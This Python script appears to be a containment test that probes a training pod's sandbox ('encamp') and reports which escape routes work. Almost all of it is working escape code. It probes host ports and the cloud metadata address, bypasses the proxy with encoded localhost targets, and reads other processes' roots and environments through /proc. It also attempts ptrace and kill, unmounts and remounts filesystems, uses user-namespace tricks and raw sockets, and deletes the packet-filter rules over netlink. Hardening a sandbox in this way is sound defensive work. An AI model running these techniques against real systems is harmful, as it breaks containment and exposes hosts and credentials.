"""A trainer that tries to leave its pod, and says of each way whether it led anywhere. Needs the standard library only.

``python hostile.py FILE``: the JSON of what it is told, which is ports, files, folders and processes of the machine.
"""

from __future__ import annotations

import ctypes
import json
import os
import signal
import socket
import ssl
import struct
import sys
import threading
from typing import TYPE_CHECKING, Any

SECONDS = 4.0

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    Given = dict[str, Any]
    Way = tuple[str, Callable[[], bool]]
    Ways = Iterator[Way]
    Attack = Callable[[Given], Ways]

ATTACKS: list[Attack] = []


def attack(function: Attack) -> Attack:
    ATTACKS.append(function)
    return function


def connects(address: Any, family: socket.AddressFamily = socket.AF_INET) -> bool:
    with socket.socket(family, socket.SOCK_STREAM) as sock:
        sock.settimeout(SECONDS)
        sock.connect(address)
        return True


def through_proxy(given: Given, target: str) -> str:
    """The first line that the proxy answers a CONNECT with."""
    with socket.create_connection((given["gateway"], 3128), timeout=SECONDS) as sock:
        sock.settimeout(SECONDS)
        sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
        return sock.recv(200).split(b"\r\n")[0].decode()


@attack
def ports_of_the_machine(given: Given) -> Ways:
    """Every server of the sandbox, at every address of this pod and its gateway."""
    for name, port in given["ports"].items():
        for host in ("127.0.0.1", "0.0.0.0", given["gateway"], "10.0.0.1", "169.254.169.254"):
            yield f"{name} at {host}:{port}", lambda host=host, port=port: connects((host, port))
        yield f"{name} at [::1]:{port}", lambda port=port: connects(("::1", port), socket.AF_INET6)


@attack
def ports_through_the_proxy(given: Given) -> Ways:
    """The chain that worked: the proxy connects from the machine's own network."""
    hosts = ["127.0.0.1", "localhost", "0.0.0.0", "127.1", "2130706433", "[::1]", "[::ffff:127.0.0.1]", "[::]", "vm"]
    hosts += ["[64:ff9b::7f00:1]", "[2002:7f00:1::]", "[::127.0.0.1]", "localhost.", "LOCALHOST", *given["own"]]
    for name, port in given["ports"].items():
        for host in hosts:
            target = f"{host}:{port}"
            yield f"CONNECT {target} ({name})", lambda target=target: " 200 " in through_proxy(given, target)
    for host in [*hosts, "169.254.169.254", "10.0.0.1", "192.168.0.1"]:
        for port in (80, 443):
            target = f"{host}:{port}"
            yield f"CONNECT {target}", lambda target=target: " 200 " in through_proxy(given, target)


@attack
def google_through_the_proxy(given: Given) -> Ways:
    """Google's hosts are the sandbox's front: whoever is behind them has the sandbox's certificate."""

    def real(target: str) -> bool:
        with socket.create_connection((given["gateway"], 3128), timeout=SECONDS) as sock:
            sock.settimeout(SECONDS)
            sock.sendall(f"CONNECT {target} HTTP/1.1\r\n\r\n".encode())
            if b" 200 " not in sock.recv(200):
                return False
            context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
            with context.wrap_socket(sock, server_hostname=target.partition(":")[0]) as secured:
                return "encamp" not in str(secured.getpeercert())

    for host in ("iamcredentials.googleapis.com", "storage.googleapis.com", "accounts.google.com"):
        yield f"the real {host}", lambda host=host: real(f"{host}:443")


@attack
def abstract_sockets(given: Given) -> Ways:
    del given
    with open("/proc/net/unix") as table:
        names = {line.split()[7] for line in table.readlines()[1:] if len(line.split()) > 7}
    for name in sorted(names):
        address = "\0" + name[1:] if name.startswith("@") else name
        yield f"unix socket {name}", lambda address=address: connects(address, socket.AF_UNIX)


@attack
def processes_of_the_machine(given: Given) -> Ways:
    def visible() -> bool:
        found = [pid for pid in os.listdir("/proc") if pid.isdigit()]
        lines = [open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace") for pid in found]
        return any(mark in line for mark in given["marks"] for line in lines)

    def killed(number: int) -> bool:
        os.kill(number, signal.SIGTERM)
        return True

    def traced(number: int) -> bool:
        libc = ctypes.CDLL(None, use_errno=True)
        return libc.ptrace(16, number, 0, 0) == 0  # PTRACE_ATTACH

    yield "processes of the machine in /proc", visible
    for number in given["pids"]:
        if not os.path.exists(f"/proc/{number}"):
            yield f"signal to {number}", lambda number=number: killed(number)
            yield f"ptrace of {number}", lambda number=number: traced(number)
            yield f"/proc/{number}/root", lambda number=number: bool(os.listdir(f"/proc/{number}/root"))
            yield f"/proc/{number}/environ", lambda number=number: bool(open(f"/proc/{number}/environ", "rb").read())


@attack
def files(given: Given) -> Ways:
    ways = ["", "/.host", "/proc/1/root", "/proc/self/root", "/proc/1/cwd"]
    for path in given["files"]:
        for way in ways:
            yield f"read {way}{path}", lambda name=way + path: bool(open(name, "rb").read())
    for path in given["folders"]:
        for way in ways:
            yield f"list {way}{path}", lambda name=way + path: bool(set(os.listdir(name)) - set(given["needed"]))


@attack
def mounts(given: Given) -> Ways:
    """What was mounted for the pod, undone."""
    libc = ctypes.CDLL(None, use_errno=True)

    def uncovered(path: str) -> bool:
        if libc.umount2(path.encode(), 2) != 0:  # MNT_DETACH
            raise OSError(ctypes.get_errno(), "umount2")
        return bool(os.listdir(path)) if os.path.isdir(path) else bool(open(path, "rb").read())

    def remounted(path: str) -> bool:
        if libc.mount(b"none", path.encode(), None, 0x20 | 0x1000, None) != 0:  # MS_REMOUNT | MS_BIND
            raise OSError(ctypes.get_errno(), "mount")
        return True

    def writable(path: str) -> bool:
        with open(path, "r+") as file:
            return file.writable()

    covered = [line.split()[4] for line in open("/proc/self/mountinfo")]
    for path in sorted({*covered, *given["folders"]}):
        yield f"umount {path}", lambda path=path: uncovered(path)
    for path in ("/usr", "/proc/sys", "/sys"):
        yield f"remount {path}", lambda path=path: remounted(path)
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
        yield f"write {path}", lambda path=path: writable(path)


@attack
def namespaces(given: Given) -> Ways:
    """A new user namespace has every right in itself, and none over what it was given."""
    del given
    libc = ctypes.CDLL(None, use_errno=True)

    def uncovered() -> bool:
        child = os.fork()
        if child == 0:
            code = 0
            if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
                places = [line.split()[4] for line in open("/proc/self/mountinfo")]
                code = any(libc.umount2(place.encode(), 2) == 0 for place in places if place != "/")
            os._exit(code)
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1

    def raw() -> bool:
        with socket.socket(socket.AF_PACKET, socket.SOCK_RAW):
            return True

    def moved() -> bool:
        import fcntl

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
            address = struct.pack("16sH2s4s8x", b"eth0", socket.AF_INET, b"", socket.inet_aton("10.8.0.77"))
            fcntl.ioctl(control, 0x8916, address)  # SIOCSIFADDR
            return True

    yield "umount in a user namespace", uncovered
    yield "packets of another pod", raw
    yield "the address of another pod", moved


@attack
def packet_filter(given: Given) -> Ways:
    """The rules by which the pod's network policies are enforced, deleted."""
    del given
    libc = ctypes.CDLL(None, use_errno=True)

    def unfiltered() -> bool:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12) as control:  # NETLINK_NETFILTER
            name = struct.pack("HH7sx", 11, 1, b"encamp\0")
            edges = [struct.pack("IHHIIBBH", 20, kind, 1, 0, 0, 0, 0, 0x0A00) for kind in (16, 17)]
            delete = struct.pack("IHHIIBBH", 20 + len(name), 0x0A02, 5, 1, 0, 1, 0, 0) + name
            control.settimeout(SECONDS)
            control.send(edges[0] + delete + edges[1])
            return struct.unpack_from("i", control.recv(9999), 16)[0] == 0

    def unfiltered_from_a_namespace() -> bool:
        child = os.fork()
        if child == 0:
            code = 0
            if libc.unshare(0x10000000) == 0:  # CLONE_NEWUSER
                try:
                    code = unfiltered()
                except OSError:
                    code = 0
            os._exit(code)
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 1

    yield "its packet filter", unfiltered
    yield "its packet filter from a user namespace", unfiltered_from_a_namespace


@attack
def descriptors(given: Given) -> Ways:
    """Whatever was left open on the way here."""
    del given
    for name in os.listdir("/proc/self/fd"):
        try:
            target = os.readlink(f"/proc/self/fd/{name}")
        except OSError:
            continue
        if int(name) > 2 and target != "/proc/self/fd" and f"/proc/{os.getpid()}/fd" not in target:
            yield f"descriptor {name}: {target}", lambda: True


def main() -> None:
    with open(sys.argv[1]) as file:
        given = json.load(file)
    run = Run()
    for collect in ATTACKS:
        ways = list(collect(given))
        if collect.__name__ in ("mounts", "namespaces", "packet_filter"):
            for name, act in ways:
                run.one(name, act)
        else:
            run.at_once(ways)
    print(f"{len(run.tried)} ways tried, {len(run.won)} led out")
    sys.exit(1 if run.won else 0)


class Run:
    """What was tried, and what of it led anywhere."""

    def __init__(self) -> None:
        self.lock = threading.Lock()
        self.won: list[str] = []
        self.tried: list[str] = []

    def one(self, name: str, act: Callable[[], bool]) -> None:
        try:
            broken = act()
        except (OSError, ValueError, UnicodeError) as error:
            broken, said = False, f"{type(error).__name__}: {error}"
        else:
            said = "nothing there"
        with self.lock:
            self.tried.append(name)
            print(f"tried {name}: {'BROKEN' if broken else said}", flush=True)
            if broken:
                self.won.append(name)

    def at_once(self, ways: list[Way]) -> None:
        for start in range(0, len(ways), 32):
            threads = [threading.Thread(target=self.one, args=way) for way in ways[start : start + 32]]
            for thread in threads:
                thread.start()
            for thread in threads:
                thread.join()


if __name__ == "__main__":
    main()
